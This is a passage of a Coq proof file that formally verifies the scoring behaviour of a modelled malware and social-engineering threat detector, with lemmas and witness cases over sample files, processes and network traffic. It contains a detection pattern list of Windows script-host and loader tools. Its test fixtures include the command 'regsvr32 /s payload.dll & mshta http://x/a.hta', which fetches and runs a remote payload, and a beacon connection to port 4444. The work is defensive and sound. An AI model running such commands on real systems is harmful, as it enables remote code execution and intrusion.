  - exists st. split; [reflexivity|exact Hst].
  - cbn [foldM].
    destruct (record_shape "Suspicious URL" _ st (analyze_url_shape url) Hst)
      as (st1 & -> & H1).
    cbn [bind]. exact (IH st1 H1).
Qed.

Lemma recorded_start : recorded ([], [], 0.0).
Proof. repeat split; try reflexivity; try lra. intros H. now elim H. Qed.

Arguments SocialEngineeringDetector.record : simpl never.
Arguments SocialEngineeringDetector._analyze_email : simpl never.
Arguments SocialEngineeringDetector._analyze_url : simpl never.
Arguments SocialEngineeringDetector._analyze_content : simpl never.

(** X21. [detect_social_engineering] on a dict whose urls are a list (or
    are missing) never fails, whatever the email, the list items and the
    content are: a part that cannot be analysed counts as not suspicious.
    The threat level is low exactly when no threat is recorded, and the
    list of threat types names the recorded threats in order. *)
Theorem social_engineering_low_iff_nothing_recorded :
  forall (w : World) (d : dict) (urls : list value),
    dict_get_default d "urls" (VList []) = VList urls ->
    let result := SocialEngineeringDetector.detect_social_engineering w (VDict d) in
    dict_mem result "error" = false
    /\ exists threats,
         dict_get result "threats_detected" = Some (VList threats)
         /\ dict_get result "threat_types" = Some (VList (map type_of threats))
         /\ (dict_get result "threat_level" = Some (VStr "low") <-> threats = []).
Proof.
  intros w d urls Hu result. subst result.
  unfold SocialEngineeringDetector.detect_social_engineering.
  cbn [py_get bind]. rewrite Hu. cbn [py_iter py_len bind].
  assert (H1 : exists st1,
             (if truthy (dict_get_default d "email" (VDict []))
              then SocialEngineeringDetector.record
                     "Suspicious Email"
                     (SocialEngineeringDetector._analyze_email
                        (dict_get_default d "email" (VDict [])))
                     ([], [], 0.0)
              else Ok ([], [], 0.0)) = Ok st1 /\ recorded st1).
  { destruct (truthy _).
    - apply record_shape; [apply analyze_email_shape|apply recorded_start].
    - eexists. split; [reflexivity|apply recorded_start]. }
  destruct H1 as (st1 & -> & R1). cbn [bind].
  destruct (record_urls urls st1 R1) as (st2 & -> & R2). cbn [bind].
  assert (H3 : exists st3,
             (if truthy (dict_get_default d "content" (VStr ""))
              then SocialEngineeringDetector.record
                     "Suspicious Content"
                     (SocialEngineeringDetector._analyze_content
                        (dict_get_default d "content" (VStr "")))
                     st2
              else Ok st2) = Ok st3 /\ recorded st3).
  { destruct (truthy _).
    - apply record_shape; [apply analyze_content_shape|exact R2].
    - eexists. split; [reflexivity|exact R2]. }
  destruct H3 as (st3 & -> & R3). cbn [bind].
  destruct st3 as [[threats types] risk]. cbn [try_except].
  destruct R3 as (Ht & Hr & Hnil & Hpos).
  split; [reflexivity|]. exists threats.
  split; [reflexivity|]. split; [rewrite Ht; reflexivity|].
  cbn [dict_get String.eqb Ascii.eqb Bool.eqb].
  destruct threats as [|t threats].
  - specialize (Hnil eq_refl).
    assert (G6 : Num.geb risk 0.6 = false) by (apply geb_false; lra).
    assert (G3 : Num.geb risk 0.3 = false) by (apply geb_false; lra).
    rewrite G6, G3. split; reflexivity.
  - assert (Hp : 0.3 < risk) by (apply Hpos; discriminate).
    destruct (Num.geb risk 0.6).
    + split; discriminate.
    + assert (G3 : Num.geb risk 0.3 = true) by (apply geb_true; lra).
      rewrite G3. split; discriminate.
Qed.

Lemma foldM_skip {A S} (keep : A -> bool) (f : S -> A -> exc S) (l : list A) :
  (forall s x, keep x = false -> f s x = Ok s) ->
  forall s, foldM f (filter keep l) s = foldM f l s.
Proof.
  intros H. induction l as [|x l IH]; intros s; [reflexivity|].
  cbn [filter foldM]. destruct (keep x) eqn:K.
  - cbn [foldM]. destruct (f s x); [cbn [bind]; apply IH|reflexivity].
  - rewrite (H s x K). cbn [bind]. apply IH.
Qed.

Lemma record_not_text st item :
  SocialSpec.is_text item = false ->
  SocialEngineeringDetector.record "Suspicious URL"
                                   (SocialEngineeringDetector._analyze_url item) st
  = Ok st.
Proof. intros H. destruct item; try discriminate; reflexivity. Qed.

(** X22. Items of the url list that are not strings are skipped: with
    them or without them, the detector records the same threats and
    gives the same threat level and risk score. *)
Theorem malformed_urls_are_skipped :
  forall (w : World) (d : dict) (urls : list value) (key : string),
    dict_get d "urls" = Some (VList urls) ->
    In key ["threats_detected"; "threat_types"; "threat_level"; "overall_risk_score"] ->
    let cleaned := dict_set d "urls" (VList (filter SocialSpec.is_text urls)) in
    dict_get (SocialEngineeringDetector.detect_social_engineering w (VDict cleaned)) key
    = dict_get (SocialEngineeringDetector.detect_social_engineering w (VDict d)) key.
Proof.
  intros w d urls key Hu Hkey cleaned. subst cleaned.
  unfold SocialEngineeringDetector.detect_social_engineering.
  cbn [py_get bind]. unfold dict_get_default.
  rewrite dict_get_set_same, !dict_get_set_other by discriminate.
  rewrite Hu. cbn [py_iter py_len bind].
  destruct (if truthy _ then _ else _) as [st1|e]; [|reflexivity]. cbn [bind].
  rewrite (foldM_skip SocialSpec.is_text _ urls (fun s x => record_not_text s x) st1).
  destruct (foldM _ urls st1) as [st2|e]; [|reflexivity]. cbn [bind].
  destruct (if truthy _ then _ else _) as [[[threats types] risk]|e]; [|reflexivity].
  cbn [bind try_except].
  cbn [In] in Hkey.
  destruct Hkey as [<-|[<-|[<-|[<-|[]]]]]; reflexivity.
Qed.

(** ** The threat records of a verdict *)

(** X23. The threat records of a verdict are those of the modules in the
    order signature, file_analysis, behavioral, encrypted,
    social_engineering: one "Signature Match" record when the signature
    result has detected set, one "File-based Threat" record when the
    prediction is malicious or suspicious, and the own records of each of
    the last three modules, unchanged and without removing duplicates. *)
Theorem verdict_threats_in_module_order :
  forall (self : EnhancedThreatDetector) (w : World) (data : dict),
    dict_get (detect_threats self w data) "threats_detected"
    = Some (VList (flat_map (module_records self w data) all_modules)).
Proof.
  intros self w data. unfold detect_threats.
  destruct (run_modules_records self w data) as (types & ->).
  cbv [try_except]. rewrite decision_verdict.
  destruct (ensemble_totals _ _) as [[risk conf]|e]; reflexivity.
Qed.

(** ** File-only bundles *)

Lemma signature_confidence sha256_hexdigest decode_utf8_ignore w path :
  exists detected label confidence rest,
    SignatureDetector.detect_threats sha256_hexdigest decode_utf8_ignore w path
    = ("detected", VBool detected)
        :: ("threat_type", VStr label)
        :: ("confidence", VNum confidence)
        :: rest
    /\ 0 <= confidence /\ confidence <= 0.95
    /\ (unlisted sha256_hexdigest w path -> confidence <= 0.8).
Proof.
  destruct (fs w path) as [[raw|size]|] eqn:Hfs.
  - destruct (SignatureDetector.lookup (sha256_hexdigest raw)
                SignatureDetector.signature_database) as [label|] eqn:Hl.
    + rewrite (detect_threats_known _ _ _ _ _ _ Hfs Hl).
      eexists _, _, _, _. split; [reflexivity|]. split; [lra|]. split; [lra|].
      intros H. rewrite (H raw Hfs) in Hl. discriminate.
    + rewrite (detect_threats_unknown _ _ _ _ _ Hfs Hl).
      destruct (Nat.leb _ _); eexists _, _, _, _; (split; [reflexivity|]);
        (split; [lra|]); (split; [lra|]); intros _; lra.
  - rewrite (detect_threats_unreadable _ _ _ _ _ Hfs).
    eexists _, _, _, _. split; [reflexivity|].
    split; [lra|]. split; [lra|]. intros _; lra.
  - rewrite (detect_threats_missing _ _ _ _ Hfs).
    eexists _, _, _, _. split; [reflexivity|].
    split; [lra|]. split; [lra|]. intros _; lra.
Qed.

Lemma file_confidence decode_utf8_ignore splitext_ext w path :
  exists prediction confidence rest,
    FileAnalyzer.predict decode_utf8_ignore splitext_ext w path
    = ("prediction", VStr prediction) :: ("confidence", VNum confidence) :: rest
    /\ 0 <= confidence /\ confidence <= 0.9.
Proof.
  unfold FileAnalyzer.predict, path_exists, getsize, read_bytes.
  destruct (fs w path) as [[raw|size]|]; cbv [bind try_except negb].
  - destruct (Num.gtb _ 0.3) eqn:E3; [|destruct (Num.gtb _ 0.1)];
      eexists _, _, _; (split; [reflexivity|]); try (split; lra).
    apply gtb_true in E3. split.
    + unfold Num.min. destruct (Num.gtb 0.9 _); [|lra].
      rewrite add_eq, mul_eq. lra.
    + apply min_le_l.
  - destruct (_ && _); eexists _, _, _; (split; [reflexivity|]); split; lra.
  - eexists _, _, _. split; [reflexivity|]. split; lra.
Qed.

Lemma ensemble_step_file_module slots name r c weight risk conf :
  dict_get slots name = Some (VDict r) ->
  name = "signature" \/ name = "file_analysis" ->
  dict_get r "confidence" = Some (VNum c) ->
  0 <= c -> 0 <= weight ->
  exists risk' conf',
    ensemble_step [("module_results", VDict slots)] (risk, conf) (name, weight)
    = Ok (risk', conf')
    /\ risk <= risk' /\ risk' <= risk + weight * c * 10.
Proof.
  intros Hs Hn Hc Hc0 Hw. unfold ensemble_step.
  change (dict_item [("module_results", VDict slots)] "module_results")
    with (Ok (VDict slots)).
  cbv [bind py_get dict_get_default]. rewrite Hs, Hc. cbn [py_in].
  assert (Hm : 0 <= weight * c * 10) by nra.
  destruct (dict_mem r "error"); cbn [negb].
  { eexists _, _. split; [reflexivity|]. split; lra. }
  destruct Hn as [-> | ->]; cbn [String.eqb Ascii.eqb Bool.eqb].
  - destruct (truthy _); cbn [as_number];
      (eexists _, _; split; [reflexivity|]); rewrite ?add_eq, ?mul_eq; split; lra.
  - destruct (in_strings _ _); cbn [as_number];
      (eexists _, _; split; [reflexivity|]); rewrite ?add_eq, ?mul_eq; split; lra.
Qed.

Lemma ensemble_step_absent slots name weight risk conf :
  dict_get slots name = None ->
  exists risk' conf',
    ensemble_step [("module_results", VDict slots)] (risk, conf) (name, weight)
    = Ok (risk', conf')
    /\ risk' == risk.
Proof.
  intros Hs. unfold ensemble_step.
  change (dict_item [("module_results", VDict slots)] "module_results")
    with (Ok (VDict slots)).
  cbv [bind py_get dict_get_default]. rewrite Hs.
  cbn [py_in dict_mem dict_get negb truthy in_strings as_number].
  destruct (String.eqb name "signature");
    [eexists _, _; split; reflexivity|].
  destruct (String.eqb name "file_analysis");
    [eexists _, _; split; reflexivity|].
  destruct (existsb _ _); eexists _, _; (split; [reflexivity|]);
    rewrite ?add_eq, ?mul_eq; ring.
Qed.

Lemma file_only_slots sha256_hexdigest decode_utf8_ignore splitext_ext self w data path :
  shipped_file_modules sha256_hexdigest decode_utf8_ignore splitext_ext self ->
  file_only data path ->
  final_slots self w data
  = [ ("signature",
       VDict (SignatureDetector.detect_threats
                sha256_hexdigest decode_utf8_ignore w path));
      ("file_analysis",
       VDict (FileAnalyzer.predict decode_utf8_ignore splitext_ext w path)) ].
Proof.
  intros [Hsig Hfile] (Hp & Hs & Hn & Hc).
  assert (Hm : dict_mem data "file_path" = true) by (unfold dict_mem; now rewrite Hp).
  unfold final_slots, all_modules, store_slot, applicable, stored_slot.
  cbn [fold_left input_key module_name invoke post_check].
  rewrite Hm, Hs, Hn, Hc. unfold dict_item. rewrite Hp. cbn [bind].
  rewrite Hsig, Hfile. reflexivity.
Qed.

(** X24. A bundle that has a file path and nothing else is never rated
    high.  With the default weights and the shipped signature detector
    and file analyzer, the weighted risk of such a bundle is at most
    0.25 x 9.5 + 0.20 x 9 = 4.175, whatever the file holds; and when the
    digest of the file is not in the signature table the risk is at most
    3.8 and the threat level is low, also for a file that the rule match
    and the file analyzer both report. *)
Theorem file_only_bundle_is_never_high :
  forall (sha256_hexdigest decode_utf8_ignore splitext_ext : string -> string)
         (self : EnhancedThreatDetector) (w : World) (data : dict) (path : string),
    detection_weights self = default_weights ->
    shipped_file_modules sha256_hexdigest decode_utf8_ignore splitext_ext self ->
    file_only data path ->
    let verdict := detect_threats self w data in
    (exists risk,
        dict_get verdict "overall_risk_score" = Some (VNum risk) /\ risk <= 4.175)
    /\ dict_get verdict "threat_level" <> Some (VStr "high")
    /\ (unlisted sha256_hexdigest w path ->
        dict_get verdict "threat_level" = Some (VStr "low")).
Proof.
  intros sha dec ext self w data path Hw Hship Hdata verdict. subst verdict.
  destruct (detect_threats_verdict self w data) as (threats & types & ->).
  rewrite (file_only_slots sha dec ext self w data path Hship Hdata), Hw.
  destruct (signature_confidence sha dec w path)
    as (detected & label & c1 & rest1 & E1 & Hc1 & Hc1' & Hun).
  destruct (file_confidence dec ext w path) as (prediction & c2 & rest2 & E2 & Hc2 & Hc2').
  set (sig := SignatureDetector.detect_threats sha dec w path) in *.
  set (file := FileAnalyzer.predict dec ext w path) in *.
  set (slots := [("signature", VDict sig); ("file_analysis", VDict file)]).
  assert (T : exists risk conf,
             ensemble_totals default_weights slots = Ok (risk, conf)
             /\ risk <= 2.5 * c1 + 2 * c2).
  { unfold ensemble_totals, default_weights. cbn [foldM].
    destruct (ensemble_step_file_module slots "signature" sig c1 0.25 0.0 0.0)
      as (r1 & k1 & -> & L1 & U1);
      [reflexivity | now left | rewrite E1; reflexivity | lra | lra |].
    cbn [bind].
    destruct (ensemble_step_file_module slots "file_analysis" file c2 0.20 r1 k1)
      as (r2 & k2 & -> & L2 & U2);
      [reflexivity | now right | rewrite E2; reflexivity | lra | lra |].
    cbn [bind].
    destruct (ensemble_step_absent slots "behavioral" 0.20 r2 k2 eq_refl)
      as (r3 & k3 & -> & E3).
    cbn [bind].
    destruct (ensemble_step_absent slots "encrypted" 0.15 r3 k3 eq_refl)
      as (r4 & k4 & -> & E4).
    cbn [bind].
    destruct (ensemble_step_absent slots "social_engineering" 0.20 r4 k4 eq_refl)
      as (r5 & k5 & -> & E5).
    cbn [bind]. exists r5, k5. split; [reflexivity|]. lra. }
  destruct T as (risk & conf & -> & Hrisk).
  cbn [verdict_of dict_get String.eqb Ascii.eqb Bool.eqb].
  split; [|split].
  - eexists. split; [reflexivity|].
    unfold Num.min. destruct (Num.gtb 10.0 risk) eqn:G; [lra|].
    apply gtb_false in G. lra.
  - assert (G : Num.geb risk 7.0 = false) by (apply geb_false; lra).
    rewrite G. destruct (Num.geb risk 4.0); discriminate.
  - intros Hu. specialize (Hun Hu).
    assert (G : Num.geb risk 7.0 = false) by (apply geb_false; lra).
    assert (G' : Num.geb risk 4.0 = false) by (apply geb_false; lra).
    rewrite G, G'. reflexivity.
Qed.

Lemma filter_length_prefix {A} (f : A -> bool) (l rest : list A) :
  (List.length (filter f l) <= List.length (filter f (l ++ rest)))%nat.
Proof. rewrite filter_app, length_app. lia. Qed.

(** X25. A rule match implies a flagged file.  The strings of the
    "suspicious_strings" rule are three of the nine patterns of the file
    analyzer, so on a readable file, with the same decoding, a signature
    result obtained by rule match (method "yara", detected) comes with a
    file-analysis prediction of suspicious or malicious, never benign. *)
Theorem rule_match_implies_flagged_file :
  forall (sha256_hexdigest decode_utf8_ignore splitext_ext : string -> string)
         (w : World) (path raw : string),
    fs w path = Some (RegularFile raw) ->
    dict_get (SignatureDetector.detect_threats
                sha256_hexdigest decode_utf8_ignore w path) "method"
    = Some (VStr "yara") ->
    in_strings
      (dict_get_none (FileAnalyzer.predict decode_utf8_ignore splitext_ext w path)
                     "prediction")
      ["malicious"; "suspicious"] = true.
Proof.
  intros sha dec ext w path raw Hfs Hm.
  assert (Hhits : (2 <= List.length
                          (filter (fun s => contains (lower s) (lower (dec raw)))
                                  ["cmd.exe"; "powershell"; "DownloadString"]))%nat).
  { destruct (SignatureDetector.lookup (sha raw) SignatureDetector.signature_database)
      as [label|] eqn:Hl.
    - rewrite (detect_threats_known _ _ _ _ _ _ Hfs Hl) in Hm. discriminate.
    - rewrite (detect_threats_unknown _ _ _ _ _ Hfs Hl) in Hm.
      destruct (Nat.leb 2 _) eqn:E; [apply Nat.leb_le in E; exact E|discriminate]. }
  unfold FileAnalyzer.predict, path_exists, getsize, read_bytes.
  rewrite Hfs. cbv [bind try_except negb]. rewrite find_patterns_filter.
  pose proof (filter_length_prefix
                (fun s => contains (lower s) (lower (dec raw)))
                ["cmd.exe"; "powershell"; "DownloadString"]
                ["Invoke-Expression"; "regsvr32"; "rundll32"; "wscript"; "cscript";
                 "mshta"]) as Hpre.
  change (["cmd.exe"; "powershell"; "DownloadString"]
            ++ ["Invoke-Expression"; "regsvr32"; "rundll32"; "wscript"; "cscript";
                "mshta"])%list
    with FileAnalyzer.malicious_patterns in Hpre.
  set (n := List.length (filter _ FileAnalyzer.malicious_patterns)) in *.
  assert (Hn : (2 <= n)%nat) by lia.
  set (s := Num.div (Num.of_nat n) _).
  assert (Hs : 0.1 < s).
  { unfold s. rewrite div_eq. apply of_nat_le in Hn.
    change (Num.of_nat (List.length FileAnalyzer.malicious_patterns)) with 9.
    change (Num.of_nat 2) with 2 in Hn.
    apply Qlt_shift_div_l; lra. }
  destruct (Num.gtb s 0.3); [reflexivity|].
  assert (G : Num.gtb s 0.1 = true) by (apply gtb_true; exact Hs).
  rewrite G. reflexivity.
Qed.

(** ** Advanced threats *)

(** X26. [detect_advanced_threats] has no isolation between its checks.
    When the bundle has network data and the encrypted-traffic detector
    raises, the result has no advanced threat at all and a threat count
    of 0, also when the behavioral check had found some; [detect_threats]
    in the same situation keeps the findings of the other modules. *)
Theorem advanced_threats_not_isolated :
  forall (self : EnhancedThreatDetector) (w : World) (data : dict)
         (network_data : value) (e : exn),
    dict_get data "network_data" = Some network_data ->
    encrypted_detector (detectors self) w network_data = Raise e ->
    let result := detect_advanced_threats self w data in
    dict_get result "advanced_threats" = Some (VList [])
    /\ dict_get result "threat_count" = Some (VNum 0)
    /\ dict_mem result "error" = true.
Proof.
  intros self w data nd e Hd He result. subst result.
  assert (Hm : dict_mem data "network_data" = true)
    by (unfold dict_mem; now rewrite Hd).
  unfold detect_advanced_threats. rewrite Hm. unfold dict_item. rewrite Hd.
  cbn [bind]. rewrite He.
  destruct (dict_mem data "system_data").
  - destruct (behavioral_collect (detectors self) w) as [bd|e1];
      [|repeat split].
    cbn [bind].
    destruct (behavioral_analyze (detectors self) w bd) as [r|e1];
      [|repeat split].
    cbn [bind].
    destruct (py_iter _) as [procs|e1];
      [|destruct (is_string _ _); repeat split].
    destruct (is_string _ _); cbn [bind];
      destruct (foldM fileless_step procs _) as [found|e1]; repeat split.
  - repeat split.
Qed.

(** X27. [detect_advanced_threats] looks at two things of the input
    bundle only: whether it has a system_data part, and its network_data
    part.  The file path, the communication data and the content of
    system_data have no influence on the result. *)
Theorem advanced_threats_read_two_parts :
  forall (self : EnhancedThreatDetector) (w : World) (data data' : dict),
    dict_mem data' "system_data" = dict_mem data "system_data" ->
    dict_get data' "network_data" = dict_get data "network_data" ->
    detect_advanced_threats self w data' = detect_advanced_threats self w data.
Proof.
  intros self w data data' Hs Hn.
  unfold detect_advanced_threats, dict_item, dict_mem in *.
  rewrite Hn. destruct (dict_get data' "system_data"), (dict_get data "system_data");
    try discriminate; reflexivity.
Qed.

Arguments fileless_step : simpl never.

Lemma fileless_step_entry p found :
  named p = true ->
  fileless_step found (BehavioralAnalyzer.process_entry p)
  = Ok (if script_host p then (found ++ [fileless_record p])%list else found).
Proof.
  unfold named, script_host, fileless_record, fileless_step.
  replace (py_get (BehavioralAnalyzer.process_entry p) "name" (VStr ""))
    with (Ok (BehavioralAnalyzer.opt_value VStr (pi_name p))) by reflexivity.
  replace (py_item (BehavioralAnalyzer.process_entry p) "name")
    with (Ok (BehavioralAnalyzer.opt_value VStr (pi_name p))) by reflexivity.
  replace (py_get (BehavioralAnalyzer.process_entry p) "cmdline" (VList []))
    with (Ok (BehavioralAnalyzer.opt_value (fun l => VList (map VStr l))
                                           (pi_cmdline p)))
    by reflexivity.
  destruct (pi_name p) as [name|]; [|discriminate]. intros _.
  cbn [BehavioralAnalyzer.opt_value bind py_lower].
  destruct (existsb _ _); reflexivity.
Qed.

Lemma fileless_loop procs found :
  forallb named procs = true ->
  foldM fileless_step (map BehavioralAnalyzer.process_entry procs) found
  = Ok (found ++ map fileless_record (filter script_host procs))%list.
Proof.
  revert found. induction procs as [|p procs IH]; intros found H.
  - cbn. now rewrite app_nil_r.
  - cbn [forallb] in H. apply andb_true_iff in H. destruct H as [Hp H].
    cbn [map foldM filter]. rewrite (fileless_step_entry p found Hp). cbn [bind].
    destruct (script_host p).
    + rewrite IH by exact H. cbn [map]. rewrite <- app_assoc. reflexivity.
    + apply IH, H.
Qed.

(** X28. Every script host is reported.  With the shipped behavioral
    analyzer, on a machine whose process names are all readable, a bundle
    with system data and no network data gets one "Fileless Malware"
    record with confidence 0.6 for each process named powershell.exe,
    wscript.exe or cscript.exe (in any letter case), in process order and
    whatever its command line is, after at most one "Zero-day Exploit"
    record; the threat count is the number of records. *)
Theorem every_script_host_is_reported :
  forall (self : EnhancedThreatDetector) (w : World) (data : dict)
         (procs : list proc_info),
    (forall w', behavioral_collect (detectors self) w'
                = Ok (BehavioralAnalyzer.collect_behavioral_data w')) ->
    (forall w' d, behavioral_analyze (detectors self) w' d
                  = Ok (BehavioralAnalyzer.analyze_behavior w' d)) ->
    dict_mem data "system_data" = true ->
    dict_mem data "network_data" = false ->
    process_iter w = Ok procs ->
    forallb named procs = true ->
    let result := detect_advanced_threats self w data in
    exists zero_day,
      dict_get result "advanced_threats"
      = Some (VList (zero_day ++ map fileless_record (filter script_host procs)))
      /\ (List.length zero_day <= 1)%nat
      /\ dict_get result "threat_count"
         = Some (VNum (Num.of_nat
                         (List.length zero_day
                          + List.length (filter script_host procs))))
      /\ dict_mem result "error" = false.
Proof.
  intros self w data procs Hc Ha Hs Hn Hw Hnamed result. subst result.
  unfold detect_advanced_threats. rewrite Hs, Hn, !Hc. cbn [bind].
  rewrite Ha. cbn [bind].
  assert (Hp : py_iter (dict_get_default (BehavioralAnalyzer.collect_behavioral_data w)
                                         "processes" (VList []))
               = Ok (map BehavioralAnalyzer.process_entry procs)).
  { unfold dict_get_default. rewrite (collect_processes w procs Hw). reflexivity. }
  rewrite Hp. cbn [bind].
  destruct (is_string _ _); cbn [bind]; rewrite (fileless_loop procs _ Hnamed);
    cbn [bind try_except]; eexists; (split; [reflexivity|]);
    (split; [cbn [List.length]; lia|]);
    (split; [|reflexivity]);
    cbn [dict_get String.eqb Ascii.eqb Bool.eqb];
    rewrite ?length_app, ?length_map; reflexivity.
Qed.

(** ** The further properties at sample inputs *)

Lemma module_results_follow_input_parts_witness :
  dict_mem empty_snapshot_bundle (input_key Behavioral) = true
  /\ module_slot (detect_threats (init behavioral_only) busy_world empty_snapshot_bundle)
                 (module_name Behavioral) <> None.
Proof.
  split; [reflexivity|].
  exact (proj2 (proj1 (module_results_follow_input_parts
                         (init behavioral_only) busy_world empty_snapshot_bundle)
                      Behavioral)
               eq_refl).
Defined.

Lemma threat_count_is_number_of_records_witness :
  let verdict := detect_threats (init behavioral_only) busy_world empty_snapshot_bundle in
  dict_mem verdict "error" = false
  /\ exists threats,
       dict_get verdict "threats_detected" = Some (VList threats)
       /\ dict_get verdict "threat_count"
          = Some (VNum (Num.of_nat (List.length threats))).
Proof.
  split; [vm_compute; reflexivity|].
  apply (threat_count_is_number_of_records
           (init behavioral_only) busy_world empty_snapshot_bundle).
  vm_compute. reflexivity.
Defined.

Lemma unknown_weight_names_are_ignored_witness :
  (forall m, "heuristics" <> module_name m)
  /\ detect_threats (without_weight "heuristics" with_heuristics)
                    busy_world empty_snapshot_bundle
     = detect_threats with_heuristics busy_world empty_snapshot_bundle.
Proof.
  assert (H : forall m, "heuristics" <> module_name m)
    by (intros m; destruct m; discriminate).
  split; [exact H|].
  exact (unknown_weight_names_are_ignored
           with_heuristics busy_world empty_snapshot_bundle "heuristics" H).
Defined.

Lemma error_results_do_not_count_witness :
  let self := init (file_scanners dropper_digest ascii_text ascii_text) in
  let data := [("file_path", VStr "/tmp/gone.txt")] in
  let r := SignatureDetector.detect_threats
             dropper_digest ascii_text quiet_world "/tmp/gone.txt" in
  module_slot (detect_threats self quiet_world data) (module_name Signature)
  = Some (VDict r)
  /\ dict_mem r "error" = true
  /\ detect_threats (without_weight (module_name Signature) self) quiet_world data
     = detect_threats self quiet_world data.
Proof.
  split; [vm_compute; reflexivity|]. split; [reflexivity|].
  apply (error_results_do_not_count
           (init (file_scanners dropper_digest ascii_text ascii_text)) quiet_world
           [("file_path", VStr "/tmp/gone.txt")] Signature
           (SignatureDetector.detect_threats
              dropper_digest ascii_text quiet_world "/tmp/gone.txt")).
  - vm_compute. reflexivity.
  - reflexivity.
Defined.

Lemma short_signatures_never_match_witness :
  (forall content, String.length (dropper_digest content) = 64%nat)
  /\ dict_get (SignatureDetector.detect_threats
                 dropper_digest ascii_text dropper_world "/tmp/dropper.txt")
              "threat_type"
     = Some (VStr "YARA: suspicious_strings")
  /\ "YARA: suspicious_strings" <> "Malware.Sample"
  /\ "YARA: suspicious_strings" <> "Virus.Test".
Proof.
  split; [intros content; reflexivity|]. split; [reflexivity|].
  exact (short_signatures_never_match
           dropper_digest ascii_text dropper_world "/tmp/dropper.txt"
           "YARA: suspicious_strings" (fun _ => eq_refl) eq_refl).
Defined.

Lemma readable_file_prediction_ignores_extension_witness :
  fs dropper_world "/tmp/dropper.txt" = Some (RegularFile "cmd.exe /c powershell")
  /\ fs installer_world "/opt/setup.EXE"
     = Some (RegularFile "regsvr32 /s payload.dll & mshta http://x/a.hta")
  /\ dict_get (FileAnalyzer.predict ascii_text installer_extension
                                    installer_world "/opt/setup.EXE") "prediction"
     = dict_get (FileAnalyzer.predict ascii_text ascii_text
                                      dropper_world "/tmp/dropper.txt") "prediction".
Proof.
  split; [reflexivity|]. split; [reflexivity|].
  exact (proj1 (readable_file_prediction_ignores_extension
                  ascii_text ascii_text installer_extension
                  dropper_world installer_world
                  "/tmp/dropper.txt" "/opt/setup.EXE"
                  "cmd.exe /c powershell"
                  "regsvr32 /s payload.dll & mshta http://x/a.hta"
                  eq_refl eq_refl eq_refl)).
Defined.

Lemma unreadable_file_prediction_witness :
  fs locked_world "/opt/setup.EXE" = Some (Unreadable 2048)
  /\ dict_get (FileAnalyzer.predict ascii_text installer_extension
                                    locked_world "/opt/setup.EXE") "prediction"
     = Some (VStr "suspicious").
Proof.
  split; [reflexivity|].
  exact (proj1 (unreadable_file_prediction
                  ascii_text installer_extension locked_world "/opt/setup.EXE" 2048
                  eq_refl)).
Defined.

Lemma collect_behavioral_data_degrades_witness :
  process_iter busy_world = Ok [powershell]
  /\ dict_get (BehavioralAnalyzer.collect_behavioral_data busy_world) "processes"
     = Some (VList (map BehavioralAnalyzer.process_entry [powershell])).
Proof.
  split; [reflexivity|].
  exact (proj1 (proj1 (collect_behavioral_data_degrades busy_world)
                      [powershell] eq_refl)).
Defined.

Lemma unreadable_process_voids_analysis_witness :
  let system :=
    {| pi_pid := 4; pi_name := None; pi_cmdline := None;
       pi_cpu_percent := Some 0; pi_memory_percent := Some 0 |} in
  process_iter guarded_world = Ok [powershell; system]
  /\ In system [powershell; system]
  /\ (pi_name system = None \/ pi_cmdline system = None)
  /\ error_shaped (BehavioralAnalyzer.analyze_behavior
                     guarded_world
                     (BehavioralAnalyzer.collect_behavioral_data guarded_world)).
Proof.
  split; [reflexivity|]. split; [right; left; reflexivity|].
  split; [left; reflexivity|].
  exact (unreadable_process_voids_analysis
           guarded_world
           [ powershell;
             {| pi_pid := 4; pi_name := None; pi_cmdline := None;
                pi_cpu_percent := Some 0; pi_memory_percent := Some 0 |} ]
           {| pi_pid := 4; pi_name := None; pi_cmdline := None;
              pi_cpu_percent := Some 0; pi_memory_percent := Some 0 |}
           eq_refl (or_intror (or_introl eq_refl)) (or_introl eq_refl)).
Defined.

Lemma collected_snapshot_score_witness :
  let w := beacon_world "203.0.113.7" in
  let conns :=
    [ {| sc_laddr := Some ("10.0.0.5", 50122%Z);
         sc_raddr := Some ("203.0.113.7", 4444%Z);
         sc_status := "ESTABLISHED";
         sc_pid := Some 4242%Z |} ] in
  process_iter w = Ok [powershell]
  /\ net_connections w = Ok conns
  /\ forallb BehaviorSpec.readable [powershell] = true
  /\ forallb BehaviorSpec.ipv4 (firstn 50 conns) = true
  /\ dict_mem (BehavioralAnalyzer.analyze_behavior
                 w (BehavioralAnalyzer.collect_behavioral_data w)) "error" = false.
Proof.
  repeat (split; [reflexivity|]).
  exact (proj2 (proj2 (proj2
           (collected_snapshot_score
              (beacon_world "203.0.113.7") [powershell]
              [ {| sc_laddr := Some ("10.0.0.5", 50122%Z);
                   sc_raddr := Some ("203.0.113.7", 4444%Z);
                   sc_status := "ESTABLISHED";
                   sc_pid := Some 4242%Z |} ]
              eq_refl eq_refl eq_refl eq_refl)))).
Defined.

Lemma encrypted_threats_score_witness :
  let conns := [VDict [("port", VNum 4444)]; VStr "stray"] in
  dict_get_default traffic "tls_hosts" (VList []) = VList (map VStr ["cdn.malware.com"])
  /\ dict_get_default traffic "dns_queries" (VList []) = VList (map VStr [])
  /\ dict_get_default traffic "connections" (VList []) = VList conns
  /\ dict_get (EncryptedThreatDetector.detect_encrypted_threats
                 no_match quiet_world (VDict traffic)) "threat_level"
     = Some (VStr "medium").
Proof.
  repeat (split; [reflexivity|]).
  exact (proj1 (proj2
           (encrypted_threats_score
              no_match quiet_world traffic ["cdn.malware.com"] []
              [VDict [("port", VNum 4444)]; VStr "stray"]
              eq_refl eq_refl eq_refl))).
Defined.

Lemma malformed_name_voids_encrypted_result_witness :
  let d := [("tls_hosts", VList [VStr "cdn.malware.com"; VNum 7])] in
  ("tls_hosts" = "tls_hosts" \/ "tls_hosts" = "dns_queries")
  /\ dict_get d "tls_hosts" = Some (VList [VStr "cdn.malware.com"; VNum 7])
  /\ In (VNum 7) [VStr "cdn.malware.com"; VNum 7]
  /\ (forall s, VNum 7 <> VStr s)
  /\ error_shaped (EncryptedThreatDetector.detect_encrypted_threats
                     no_match quiet_world (VDict d)).
Proof.
  assert (H : forall s, VNum 7 <> VStr s) by (intros s; discriminate).
  split; [left; reflexivity|]. split; [reflexivity|].
  split; [right; left; reflexivity|]. split; [exact H|].
  exact (malformed_name_voids_encrypted_result
           no_match quiet_world
           [("tls_hosts", VList [VStr "cdn.malware.com"; VNum 7])]
           "tls_hosts" [VStr "cdn.malware.com"; VNum 7] (VNum 7)
           (or_introl eq_refl) eq_refl (or_intror (or_introl eq_refl)) H).
Defined.

